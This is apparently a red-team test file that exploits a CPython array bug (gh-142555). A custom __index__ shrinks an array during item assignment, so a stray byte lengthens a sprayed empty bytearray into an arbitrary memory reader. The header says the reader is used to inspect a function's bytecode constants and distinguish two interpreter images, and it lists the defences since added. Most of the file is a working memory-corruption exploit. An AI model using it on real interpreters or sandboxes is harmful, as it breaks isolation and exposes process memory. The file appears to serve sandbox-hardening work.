# Red team round 19 (on 342ff0c): array's item assignment checks the index, then converts the value (its
# __index__), then writes ob_item[i]: an __index__ that shrinks the array puts the byte past the new, smaller
# buffer (CPython gh-142555, in both base images' interpreters). Sprayed empty bytearrays sit in the same
# small-object size class; the stray byte 0x40 raises one's length to about 2**54, and as an empty
# bytearray's data pointer is NULL, `mem[x]` reads address x. From the function's object to its code object,
# its bytecode and its constants: in A the COMPARE_OP after LOAD_CONST 100 is `>` (4), in B `>=` (5). Read
# before the first call (_common.py). Offsets are 3.11's (x86-64).
# Closed: array's entry points that convert a value inside its C code take only int, float or str items in a
# run (_r2e_kernel.harden_array), and neither the array module nor _imp can be created again (guard_imports).
# (After reentry/_prelude.py: `f` and `touch`.)
import array

SPRAY = [bytearray() for _ in range(3000)]


def reader():
    for _ in range(500):
        a = array.array('b', bytes(400))
        keep, found, idx = [], [], 64 * 3 + 22

        class Shrink:
            def __index__(self):
                del a[48:]
                want = a.buffer_info()[0] + idx - 22
                for _ in range(400):
                    v = bytearray()
                    keep.append(v)
                    if id(v) == want:
                        found.append(v)
                        return 0x40
                raise LookupError

        try:
            a[idx] = Shrink()
        except LookupError:
            continue
        if found:
            return found[0]
    raise RuntimeError("no reader")


def test_structure():
    assert_structure(reader())
